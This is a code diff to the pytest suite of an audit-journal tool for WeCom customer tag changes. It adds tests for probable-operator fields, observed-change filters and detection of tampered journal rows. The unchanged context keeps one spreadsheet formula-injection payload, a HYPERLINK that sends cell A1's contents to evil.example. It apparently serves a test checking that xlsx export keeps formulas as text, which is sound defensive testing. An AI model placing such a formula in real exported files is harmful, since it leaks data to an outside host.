@@ -24,7 +24,7 @@ T0 = datetime(2025, 3, 1, 9, 0).timestamp()
 EVIL = '=HYPERLINK("http://evil.example/?q="&A1, "点我")'
 JSON_FIELDS = ["id", "ts", "operator", "action", "source", "batch_id", "external_userid",
                "customer", "userid", "tag_id", "tag_name", "group_name", "before", "after",
-               "reason"]
+               "reason", "probable_operator", "seen_after"]
 
 
 def _fill(conn: sqlite3.Connection) -> None:
@@ -49,9 +49,10 @@ def _fill(conn: sqlite3.Connection) -> None:
             reason="春季活动 @all",
         ))
     entries.append(journal.JournalEntry(
-        operator="lisi", action="tag_remove", source="observed", external_userid="wmC",
+        operator="", action="tag_remove", source="observed", external_userid="wmC",
         userid="lisi", tag_id="etA", tag_name="高意向", group_name="意向程度",
-        before='["etA"]', after="[]", ts=T0 + 86400,
+        before='["etA"]', after="[]", ts=T0 + 86400, probable_operator="lisi",
+        seen_after=T0 + 3600,
     ))
     entries.append(journal.JournalEntry(
         operator="lisi", action="tag_rename", source="tree", batch_id="b-tree", tag_id="etB",
@@ -97,7 +98,8 @@ def test_verify_passes_on_a_clean_journal(home: Path, capsys: pytest.CaptureFixt
     assert code == 0 and "6 rows checked" in out
     code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
     assert code == 0
-    assert json.loads(out) == {"ok": True, "rows_checked": 6, "first_bad_id": None, "problem": ""}
+    assert json.loads(out) == {"ok": True, "rows_checked": 6, "first_bad_id": None, "problem": "",
+                               "problems": []}
 
 
 @pytest.mark.parametrize(("statements", "bad_row", "word"), [
@@ -152,7 +154,9 @@ def test_list_json_prints_every_row_then_a_summary(
 
 @pytest.mark.parametrize(("options", "ids"), [
     (["--batch", "b-spring"], [1, 2, 3, 4]),
-    (["--operator", "lisi"], [5, 6]),
+    (["--operator", "lisi"], [6]),
+    (["--operator", "lisi", "--include-observed"], [5, 6]),
+    (["--operator", "zhangsan", "--include-observed"], [1, 2, 3, 4]),
     (["--since", "2025-03-02"], [5, 6]),
     (["--until", "2025-03-01"], [1, 2, 3, 4]),
     (["--since", "2025-03-01 09:01", "--until", "2025-03-01 09:03"], [2, 3]),
@@ -170,6 +174,31 @@ def test_list_filters(
     code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json", *options)
     assert code == 0
     assert [json.loads(line)["id"] for line in out.splitlines()[:-1]] == ids
+
+
+def test_a_change_seen_at_sync_names_no_operator_but_its_window_and_probable_one(
+    home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json",
+                       "--source", "observed")
+    seen = json.loads(out.splitlines()[0])
+    assert code == 0
+    assert (seen["operator"], seen["probable_operator"], seen["seen_after"], seen["ts"]) == (
+        "", "lisi", iso_local(T0 + 3600), iso_local(T0 + 86400))
+    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--source", "observed")
+    fields = out.splitlines()[0].split("\t")
+    assert fields[:2] == [f"{iso_local(T0 + 3600)} – {iso_local(T0 + 86400)}",
+                          "企业微信客户端 / unknown, seen at sync（可能是 / probably 李四 (lisi)）"]
+
+
+def test_verify_notices_tail_rows_cut_off_with_the_head(
+    home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    tamper(home, "DELETE FROM journal WHERE id >= 5", "DELETE FROM meta WHERE key = 'journal_head'")
+    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
+    report = json.loads(out)
+    assert code == 1 and report["ok"] is False and report["first_bad_id"] == 5
+    assert len(report["problems"]) == 3   # no head in meta, head file ahead, no triggers
 
 
 def test_list_since_a_span(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -208,7 +237,7 @@ def _expected(home: Path) -> list[list[object]]:
         rows = list(iter_rows(cache, JournalFilter(batch_ids=("b-spring", "b-tree"))))
     return [[r.id, local_datetime(r.ts), r.operator, r.operator_name, r.action, r.source,
              r.batch_id, r.external_userid, r.customer, r.userid, r.owner_name, r.tag_id,
-             r.tag_name, r.group_name, r.before, r.after, r.reason] for r in rows]
+             r.tag_name, r.group_name, r.before, r.after, r.reason, "", ""] for r in rows]
 
 
 def test_xlsx_export_round_trips_and_keeps_formulas_as_text(
